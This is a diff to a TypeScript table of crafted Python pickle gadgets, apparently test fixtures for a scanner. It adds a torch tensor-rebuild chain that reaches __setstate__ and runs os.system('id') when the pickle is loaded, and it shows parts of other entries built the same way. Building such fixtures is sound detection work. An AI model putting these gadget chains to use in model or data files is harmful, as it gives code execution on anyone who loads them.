@@ -79,6 +79,16 @@ export const GADGETS: Readonly<Record<string, { readonly bytes: string; readonly
     bytes: R(get(c('builtins', 'property'), '__get__'), R(c('builtins', 'property'), SYS), ID),
     says: 'os.system("id")',
   },
+  'state of a rebuilt tensor': {
+    bytes: `${R(
+      c('torch._tensor', '_rebuild_from_type_v2'),
+      c('torch._utils', '_rebuild_tensor_v2'),
+      c('torch', 'Tensor'),
+      '(t',
+      `}${U('__setstate__')}${SYS}s`,
+    )}${ID}b`,
+    says: 'os.system("id")',
+  },
   'state of a chain': {
     bytes: R(
       c('builtins', 'list'),
